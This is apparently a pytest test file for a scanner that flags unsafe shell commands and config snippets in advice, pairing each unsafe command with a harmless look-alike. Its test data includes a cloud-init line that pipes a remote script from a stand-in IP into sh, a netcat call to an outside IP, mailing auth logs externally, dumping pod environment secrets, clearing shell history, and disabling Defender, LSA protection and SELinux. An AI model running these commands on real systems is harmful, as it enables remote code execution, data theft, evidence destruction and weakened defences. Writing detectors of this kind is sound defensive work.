# ruff: noqa: E501  (pairs of commands are compared best side by side)
"""Commands and settings are judged by their kind: what is taken, from whom, and whether the thing exists."""

from __future__ import annotations

import pytest

from explainer.advice import scan


def classes(text: str) -> set[str]:
    return {issue.cls for issue in scan(f"Do this:\n\n```bash\n{text}\n```\n")}


def document(text: str, label: str = "yaml") -> set[str]:
    return {issue.cls for issue in scan(f"Apply this:\n\n```{label}\n{text}\n```\n")}


@pytest.mark.parametrize(
    ("bad", "good", "cls"),
    [
        ("passwd --quarantine bob", "passwd --lock bob", "fabricated-config"),
        ("setcap cap_no_modload+ep /sbin/insmod", "setcap cap_net_raw+ep /usr/bin/ping", "fabricated-config"),
        ("iptables -P INPUT DROP", "iptables -A INPUT -s 10.0.0.0/8 -j ACCEPT && iptables -P INPUT DROP", "self-lockout"),
        ("ufw default deny incoming && ufw enable", "ufw allow from 10.0.0.0/8 && ufw default deny incoming && ufw enable", "self-lockout"),
        ("Get-ADUser -Filter * | Disable-ADAccount", "Disable-ADAccount -Identity mallory", "self-lockout"),
        ("mail -s logs vendor@example.net < /var/log/auth.log", "mail -s note ops@corp.example < /tmp/note.txt", "data-disclosure"),
        ("kubectl exec web-1 -- env", "kubectl exec web-1 -- ls", "credential-exposure"),
        ("PGPASSWORD=S3cretPass1 psql -h db", 'PGPASSWORD="$PW" psql -h db', "credential-exposure"),
        ("nc 203.0.113.66 4444", "nc -z -c -w 2 db.internal 5432", "unsafe-response"),
        ("unset HISTFILE", "unset KUBECONFIG", "evidence-destruction"),
        ("no aaa new-model", "show aaa sessions", "weaken-auth"),
        ("reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa /v RunAsPPL /t REG_DWORD /d 0", "reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa /v RunAsPPL /t REG_DWORD /d 1", "weaken-auth"),
        ("Set-MpPreference -DisableRealtimeMonitoring $true", "Set-MpPreference -DisableRealtimeMonitoring $false", "disable-monitoring"),
        ("pipx run soc-cleaner", "pipx run soc-cleaner==1.2.3", "supply-chain"),
    ],
)  # fmt: skip
def test_the_unsafe_member_of_a_kind_is_found_and_its_look_alike_is_not(bad, good, cls):
    assert (cls in classes(bad), classes(good)) == (True, set())


def test_a_list_of_words_in_a_document_is_read_as_the_shell_would_read_it():
    text = 'runcmd:\n  - [sh, -c, "curl -s http://198.51.100.40/node.sh | sh"]'
    assert "remote-code-exec" in document(text)


def test_a_loop_over_a_listing_knows_where_its_values_come_from():
    assert "unsafe-response" in classes("for p in $(pgrep -u root); do kill -9 $p; done")


def test_a_deny_for_everybody_counts_when_it_covers_the_store_itself():
    whole = '{"Statement":[{"Effect":"Deny","Principal":"*","Action":"s3:*","Resource":["arn:aws:s3:::b","arn:aws:s3:::b/*"]}]}'
    objects = '{"Statement":[{"Effect":"Deny","Principal":"*","Action":"s3:*","Resource":"arn:aws:s3:::b/*"}]}'
    assert ("self-lockout" in document(whole, "json"), document(objects, "json")) == (True, set())


def test_a_default_deny_shuts_a_cluster_only_in_its_own_folder():
    policy = "apiVersion: networking.k8s.io/v1\nkind: NetworkPolicy\nmetadata: {name: deny, namespace: %s}\nspec:\n  podSelector: {}\n  policyTypes: [Ingress, Egress]"
    assert ("self-lockout" in document(policy % "kube-system"), document(policy % "shop")) == (True, set())


def test_what_a_command_breaks_is_the_same_at_its_second_reading():
    text = "Do this:\n\n```bash\nsetenforce 0\n```\n"
    assert [i.rule for i in scan(text)] == [i.rule for i in scan(text)] != []
